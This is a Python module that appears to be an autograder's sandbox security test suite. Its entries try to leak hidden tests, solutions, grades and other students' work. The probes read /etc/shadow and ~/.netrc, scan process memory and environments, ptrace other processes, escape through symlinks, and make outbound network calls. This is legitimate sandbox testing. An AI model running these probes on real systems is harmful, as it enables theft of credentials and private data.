"""Looking for what only the instructor may see: hidden tests, solutions, grades, the work of others.

What an attack finds it prints; the markers are looked for in everything that comes back to a student.
"""

# ruff: noqa: E501 (programs in strings, one entry after the other)

from __future__ import annotations

from autograder.attacks.course import FULL, GATES, RIGHT
from autograder.attacks.entry import Entry

RIGHT_SCORE = FULL[GATES]

# Where hidden inputs meet the student's code: the function is called with them.
LISTEN = "\nheard = []\ndef hear(text):\n    heard.append(text)\n"


def _initials(body: str) -> dict[str, str]:
    """The answer that sees a marker among its inputs, with something done to it first."""
    lines = "\n".join(f"    {line}" for line in body.split("\n"))
    return {"initials": f"def initials(text):\n{lines}\n    return ''.join(word[0] for word in text.split())"}


ENTRIES = (
    Entry(
        "leak-objects-of-the-judge",
        "looks for the judge's plan and tests in its memory, its frames and by hooks",
        RIGHT_SCORE,
        code="""
import gc, inspect
def of_the_judge():
    for found in gc.get_objects():
        if type(found).__name__ in ("Plan", "Pass", "TestCode", "Student", "Question"):
            return found
    raise LookupError
attempt("objects of the judge", of_the_judge)
sys.setprofile(lambda *a: None)
sys.addaudithook(lambda *a: None)
frame = inspect.currentframe()
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, (str, bytes)):
            search(value)
    frame = frame.f_back
TRIED.append("frames")
""",
    ),
    # -- on the disk --------------------------------------------------------------------------------------
    Entry(
        "leak-known-paths",
        "opens hidden tests, solutions, grades, stored results, the seed and others' work by their paths",
        RIGHT_SCORE,
        code="""
course = WORLD["course"]
for name in ["source/gates/gates.ipynb", "source/gates/reference.py", "source/plain/plain.ipynb", "gradebook.db",
             "nbgrader_config.py", ".coursekit/seed", ".coursekit/lock",
             f"submitted/{WORLD['victim']}/gates/gates.ipynb", f"submitted/{WORLD['victim']}/gates/notes.txt",
             f"autograded/{WORLD['victim']}/gates/gates.ipynb"]:
    attempt(f"read {name}", lambda: search(open(f"{course}/{name}", "rb").read()) or True)
for pattern in [".coursekit/runs/*/*", ".coursekit/results/*/*", "submitted/*/*/*", "source/*/*"]:
    for path in glob.glob(f"{course}/{pattern}"):
        attempt(f"find {path}", lambda: search(open(path, "rb").read()) or True)
for folder in [course, f"{course}/source", f"{course}/submitted", f"{course}/.coursekit", WORLD["home"], WORLD["canary"]]:
    attempt(f"list {folder}", lambda: os.listdir(folder))
attempt("read the canary", lambda: search(open(WORLD["canary"] + "/secret.txt", "rb").read()) or True)
attempt("read the home folder", lambda: search(open(WORLD["home"] + "/.netrc", "rb").read()) or True)
""",
        sample=True,
    ),
    Entry(
        "leak-whole-disk",
        "walks over every folder it can enter and searches every file it can read",
        RIGHT_SCORE,
        code="""
import time
end, seen = time.monotonic() + 1.5, 0
for top in ["/tmp", "/var", "/home", "/root", "/work", "/run", "/dev", "/box/tmp", "/mnt", "/srv", "/opt", "/etc", "/"]:
    for folder, folders, names in os.walk(top):
        if time.monotonic() > end:
            break
        folders[:] = [name for name in folders if name not in ("site-packages", "usr", "lib", "proc", "sys")]
        for name in names:
            path = os.path.join(folder, name)
            seen += 1
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    search(open(path, "rb").read())
            except OSError:
                pass
TRIED.append(seen)
for path in ["/etc/passwd", "/etc/shadow", "/proc/version", "/proc/self/status", "/proc/1/cmdline", "/sys/kernel/notes",
             "/root/.bashrc", "/proc/self/mem", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/var/log/dpkg.log"]:
    attempt(f"open {path}", lambda: open(path, "rb").read(1))
""",
    ),
    Entry(
        "leak-by-links",
        "makes links, pipes and devices in its own folder that lead outside",
        RIGHT_SCORE,
        code="""
for number, target in enumerate([WORLD["course"], "/", "/etc/passwd", WORLD["canary"] + "/secret.txt"]):
    attempt(f"link to {target}", lambda: os.symlink(target, f"link-{number}") or open(f"link-{number}").read(1))
    attempt(f"hard link to {target}", lambda: os.link(target, f"hard-{number}"))
import stat
attempt("a device", lambda: os.mknod("memory", 0o666 | stat.S_IFCHR, os.makedev(1, 1)))
attempt("another root", lambda: os.chroot("."))
attempt("up by dots", lambda: search(open("../../../../../../../.." + WORLD["canary"] + "/secret.txt").read()) or True)
attempt("open by handle", lambda: call(304, -100, None, 0))
""",
    ),
    Entry(
        "leak-other-children",
        "looks for the private folders of other students' processes beside its own",
        RIGHT_SCORE,
        code="""
here = os.path.abspath("..")
for up in ["../..", "../../..", os.path.dirname(here), WORLD["tmp"]]:
    attempt(f"list {up}", lambda: next(name for name in os.listdir(up) if name not in ("site", "cache", "tmp")))
for number in range(1, 40):
    for path in [f"{os.path.dirname(here)}/{number}/work", f"/box/tmp/../{number}/work"]:
        if os.path.abspath(path) != os.path.abspath("."):
            attempt(f"list {path}", lambda: os.listdir(path))
""",
    ),
    Entry(
        "leak-grader-modules",
        "imports the grader's judge, plan, repair and gradebook, nbgrader, and the instructor's reference",
        RIGHT_SCORE,
        code="""
import importlib
for name in ["autograder.judge", "autograder.judge_pass", "autograder.plan", "autograder.gradebook", "autograder.batch",
             "autograder.repair", "autograder.course", "autograder.questions", "autograder.worker", "nbgrader", "nbgrader.api",
             "sqlalchemy", "reference", "jupyter_client", "zmq", "psutil", "pip", "pytest", "tests"]:
    attempt(f"import {name}", lambda: importlib.import_module(name))
import autograder
for folder in autograder.__path__:
    print(sorted(os.listdir(folder)))
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if os.path.isfile(path):
            search(open(path, "rb").read())
attempt("the tests' sources", lambda: open(os.path.join(os.path.realpath(folder), "judge.py")).read())
""",
    ),
    # -- in memory, descriptors and environment -----------------------------------------------------------
    Entry(
        "leak-memory",
        "searches every object, module, frame and file name that its process knows",
        RIGHT_SCORE,
        code="""
import gc
def texts():
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            yield from (value for value in list(thing.values()) if isinstance(value, (str, bytes)))
        elif isinstance(thing, (list, tuple, set)):
            yield from (value for value in list(thing)[:2000] if isinstance(value, (str, bytes)))
    frame = sys._getframe()
    while frame:
        yield from map(repr, frame.f_locals.values())
        frame = frame.f_back
seen = 0
for text in texts():
    seen += 1
    search(text)
TRIED.append(seen)
import linecache
for lines in linecache.cache.values():
    search(repr(lines))
search(repr(vars(sys.modules["__main__"]).keys()))
search(" ".join(map(repr, [sys.argv, sys.orig_argv, sys.path, sys.flags])))
""",
    ),
    Entry(
        "leak-own-memory-raw",
        "reads its heap byte by byte, where texts of processes before it may be left",
        RIGHT_SCORE,
        code="""
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
top = libc.sbrk(0)
size = 0
# The heap below its end: as far as it goes, but not so far that a hole ends the process.
for back in range(1 << 16, 24 << 20, 1 << 16):
    read, write = os.pipe()
    try:
        # The kernel says EFAULT where there is no memory; reading there ourselves would end the process.
        os.set_blocking(write, False)
        if libc.write(write, ctypes.c_void_p(top - back), ctypes.c_size_t(1 << 16)) <= 0:
            break
        search(os.read(read, 1 << 16))
        size = back
    finally:
        os.close(read), os.close(write)
TRIED.append(size)
""",
    ),
    Entry(
        "leak-descriptors",
        "reads, lists and passes on every open file descriptor",
        RIGHT_SCORE,
        code="""
import fcntl, socket, stat
for fd in range(5, 300):
    attempt(f"descriptor {fd}", lambda: os.fstat(fd))
for folder in ["/proc/self/fd", "/dev/fd"]:
    attempt(folder, lambda: os.listdir(folder))
for fd in (0, 3, 4):
    TRIED.append(stat.S_ISFIFO(os.fstat(fd).st_mode))
attempt("read what the judge is told", lambda: (os.set_blocking(4, False), os.read(4, 1))[1])
attempt("a seek in the commands", lambda: os.lseek(3, 0, 0))
""",
    ),
    Entry(
        "leak-environment",
        "reads its environment, its parent's, and command lines",
        RIGHT_SCORE,
        code="""
search(" ".join(f"{name}={value}" for name, value in os.environ.items()))
attempt("COURSE_SECRET", lambda: os.environ["COURSE" + "_SECRET"])
for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/cmdline"]:
    attempt(path, lambda: search(open(path, "rb").read()) or True)
libc = ctypes.CDLL(None)
environment = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
number = 0
while environment[number]:
    search(environment[number])
    number += 1
TRIED.append(number)
attempt("the home folder", lambda: os.listdir(WORLD["home"]))
""",
    ),
    Entry(
        "leak-other-processes",
        "reads the memory of the warm process and of the judge, and traces them",
        RIGHT_SCORE,
        code="""
class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
buffer = ctypes.create_string_buffer(64)
local, remote = Vector(ctypes.addressof(buffer), 64), Vector(id(os), 64)
for pid in {1, 2, os.getppid(), os.getpid() - 1, os.getpid() + 1} - {0, os.getpid()}:
    attempt(f"process_vm_readv {pid}", lambda: call(310, pid, ctypes.pointer(local), 1, ctypes.pointer(remote), 1, 0))
    attempt(f"ptrace {pid}", lambda: call(101, 16, pid, 0, 0))
    attempt(f"pidfd_open {pid}", lambda: call(434, pid, 0))
    attempt(f"/proc/{pid}/mem", lambda: open(f"/proc/{pid}/mem", "rb"))
attempt("to be traced", lambda: call(101, 0, 0, 0, 0))
attempt("kcmp", lambda: call(312, os.getpid(), os.getpid(), 0, 0, 0))
""",
    ),
    # -- by the network -----------------------------------------------------------------------------------
    Entry(
        "leak-network",
        "calls a port on the loopback interface, the internet, and sockets of the machine",
        RIGHT_SCORE,
        code="""
import socket
def connect(family, kind, address):
    with socket.socket(family, kind) as made:
        made.settimeout(0.3)
        made.connect(address)
        made.send(b"leak")
for host in ["127.0.0.1", "localhost", "0.0.0.0", "10.0.0.1", "1.1.1.1"]:
    attempt(f"TCP {host}", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, (host, WORLD["port"])))
    attempt(f"UDP {host}", lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, (host, WORLD["port"])))
attempt("IPv6", lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", WORLD["port"])))
attempt("an abstract socket", lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + WORLD["socket"]))
for path in ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/dev/log"]:
    attempt(path, lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, path))
for family in ["AF_NETLINK", "AF_PACKET", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH", "AF_CAN", "AF_INET"]:
    attempt(family, lambda: socket.socket(getattr(socket, family, 31), socket.SOCK_RAW))
attempt("a server", lambda: socket.create_server(("127.0.0.1", 0)))
attempt("a name", lambda: socket.getaddrinfo("example.org", 80))
import urllib.request
attempt("a page", lambda: urllib.request.urlopen(f"http://127.0.0.1:{WORLD['port']}/", timeout=0.3))
pair = socket.socketpair()
attempt("pass a descriptor on", lambda: socket.send_fds(pair[0], [b"x"], [0]))
""",
        sample=True,
    ),
    # -- hidden inputs that reached the student's functions ------------------------------------------------
    Entry(
        "leak-print-input",
        "prints the inputs of its functions",
        RIGHT_SCORE,
        answers=_initials("print('heard', text)"),
        sample=True,
    ),
    Entry(
        "leak-stderr-input",
        "writes the inputs to standard error, the log, the warnings and straight to descriptors",
        RIGHT_SCORE,
        answers=_initials(
            "import logging, os, sys, warnings\nprint(text, file=sys.stderr)\nprint(text, file=sys.__stdout__, flush=True)\n"
            "logging.error(text)\nwarnings.warn(text)\nos.write(1, text.encode())\nos.write(2, text.encode())"
        ),
    ),
    Entry(
        "leak-raise-input",
        "raises an exception with the input as its message",
        RIGHT_SCORE - 3,
        answers={"initials": "def initials(text):\n    raise ValueError(text)"},
    ),
    Entry(
        "leak-raise-hidden-input-only",
        "raises the input as message, name, class and notes of an exception for all but the visible test",
        RIGHT_SCORE - 2,
        answers={
            "initials": "def initials(text):\n"
            "    if text == 'chain rule': return 'cr'\n"
            "    kind = type(text.replace('-', '_').replace(' ', '_'), (Exception,), {'__doc__': text})\n"
            "    error = kind(text)\n    error.add_note(text)\n    error.text = text\n    raise error from ValueError(text)"
        },
    ),
    Entry(
        "leak-later-cell",
        "keeps the inputs and prints, displays, raises and returns them in later cells",
        RIGHT_SCORE,
        answers=_initials("hear(text)"),
        code=LISTEN,
        last="print(heard)\ndisplay(heard)\nimport sys; print(heard, file=sys.stderr)\nheard",
    ),
    Entry(
        "leak-later-error",
        "keeps the inputs and lets a later cell stop with them",
        RIGHT_SCORE,
        answers=_initials("hear(text)"),
        code=LISTEN,
        last="raise RuntimeError(' '.join(heard))",
    ),
    Entry(
        "leak-later-test",
        "keeps the inputs and lets a later visible test fail with them in its message",
        RIGHT_SCORE - 3,
        answers={
            **_initials("hear(text)"),
            "mean": "class Said(str): pass\nclass Loud:\n"
            "    def __getattr__(self, name): raise RuntimeError(' '.join(heard))\n"
            "mean = ' '.join(heard) or 'nothing heard'",
        },
        code=LISTEN,
    ),
    Entry(
        "leak-shown-array",
        "answers a visible test that shows what it got with a text that holds what it heard",
        RIGHT_SCORE - 3,
        answers={
            "slope": "def slope(f, x, h=1e-6):\n    hear(repr([f, x, getattr(f, '__name__', ''), getattr(f, '__doc__', ''),"
            " getattr(f, '__defaults__', ''), getattr(f, '__closure__', ''), getattr(f, '__code__', '')]))\n"
            "    return (f(x + h) - f(x - h)) / (2 * h)",
            "relu": "import numpy as np\n\n\ndef relu_backward(dz, x):\n    return np.array([' '.join(heard)] * 2)",
        },
        code=LISTEN,
    ),
    Entry(
        "leak-by-file",
        "writes the inputs into files of its folder and prints whatever lies there when it starts",
        RIGHT_SCORE,
        answers=_initials(
            "open('heard.txt', 'a').write(text)\ntry:\n    open('/tmp/heard.txt', 'a').write(text)\n"
            "except OSError:\n    pass"
        ),
        code="import glob\nfor path in glob.glob('**/*.txt', recursive=True) + glob.glob('/tmp/*.txt'):\n    print(open(path).read())",
        last="print(open('heard.txt').read())",
    ),
    Entry(
        "leak-by-figure",
        "draws the inputs into a figure, its title and its file's metadata, and shows it later",
        RIGHT_SCORE,
        answers=_initials("hear(text)"),
        code=LISTEN
        + """
import struct, zlib
class Picture:
    def _repr_png_(self):
        text = b"Comment\\0" + " ".join(heard).encode()
        def chunk(name, body): return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        return (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"tEXt", text)
                + chunk(b"IDAT", zlib.compress(b"\\0\\0")) + chunk(b"IEND", b""))
""",
        last="display(Picture())\nPicture()",
    ),
    Entry(
        "leak-by-name",
        "renames its functions and classes after the inputs",
        RIGHT_SCORE - 3,
        answers={
            "initials": "def initials(text):\n    initials.__name__ = initials.__qualname__ = initials.__doc__ = text\n"
            "    return ''.join(word[0] for word in text.split())",
            "mean": "def mean():\n    pass\nmean.__name__ = mean.__qualname__ = initials.__name__",
        },
    ),
    Entry(
        "leak-by-prompt",
        "asks for input with the inputs as prompt",
        RIGHT_SCORE,
        answers=_initials(
            "import sys\ntry:\n    input(text)\nexcept EOFError:\n    pass\nsys.stdin.readline()"
        ),
    ),
    Entry(
        "leak-by-death",
        "ends its process for hidden inputs, after writing them to all its descriptors",
        RIGHT_SCORE - 2,
        answers={
            "initials": "import os\ndef initials(text):\n"
            "    if text == 'chain rule': return 'cr'\n"
            "    os.write(1, text.encode())\n    os.write(2, text.encode())\n    os.write(4, text.encode())\n    os._exit(3)"
        },
    ),
    # -- objects of the tests ------------------------------------------------------------------------------
    Entry(
        "leak-callback",
        "takes the function apart that a hidden test passes to it",
        RIGHT_SCORE,
        answers={
            "slope": """\
def slope(f, x, h=1e-6):
    for name in ["__globals__", "__closure__", "__code__", "__defaults__", "__kwdefaults__", "__builtins__", "__dict__",
                 "__self__", "__func__", "__wrapped__", "__module__", "__class__", "__reduce__", "__getattribute__"]:
        try:
            hear(repr(getattr(f, name)))
        except BaseException as error:
            hear(repr(error))
    return (f(x + h) - f(x - h)) / (2 * h)"""
        },
        code=LISTEN,
        last="print(heard)",
    ),
    Entry(
        "leak-callback-raw",
        "asks the judge, past the runner's own manners, for attributes of what a test passed to it",
        RIGHT_SCORE,
        answers={
            "slope": """\
def slope(f, x, h=1e-6):
    for number in range(1, 12):
        for operation, arguments in [("getattr", ("__globals__",)), ("getattr", ("__closure__",)), ("vars", ()), ("dir", ()),
                                     ("repr", ()), ("method", ("__getattribute__", "__globals__")), ("source", ()),
                                     ("describe", ()), ("__getitem__", ("key",)), ("getattr", ("__defaults__",)),
                                     ("setattr", ("__code__", None)), ("delattr", ("__defaults__",))]:
            try:
                got = runner.ask(operation, number, arguments)
            except Exception as error:
                continue
            print("bre" + "ach-" + WORLD["token"], operation, number, repr(got)[:100])
            hear(repr(got))
    return (f(x + h) - f(x - h)) / (2 * h)"""
        },
        code=LISTEN
        + """
import gc
from autograder import runner as runner_module
runner = next(x for x in gc.get_objects() if type(x) is runner_module.Runner)
TRIED.append(WORLD["token"])
""",
        last="print(heard)",
    ),
    Entry(
        "leak-judge-names",
        "reads the names that hidden tests bind, before and after them",
        RIGHT_SCORE,
        answers={
            **_initials("hear(repr([globals().get(name) for name in NAMES]))"),
            "mean": RIGHT["mean"] + "\nprint([globals().get(name) for name in NAMES])",
        },
        code=LISTEN
        + "NAMES = 'secret key cube relu_reference reference a b dx dy out gate answer expected'.split()",
        last="print(heard, [globals().get(name) for name in NAMES])\nprint(secret)",
    ),
    Entry(
        "leak-solution-text",
        "asks for the source of the instructor's functions and of its own",
        RIGHT_SCORE,
        code="""
import inspect
attempt("the source of near", lambda: search(inspect.getsource(near)) or 1 / 0)
search(repr(vars(near)))
search(repr(near.__code__.co_consts))
""",
    ),
)
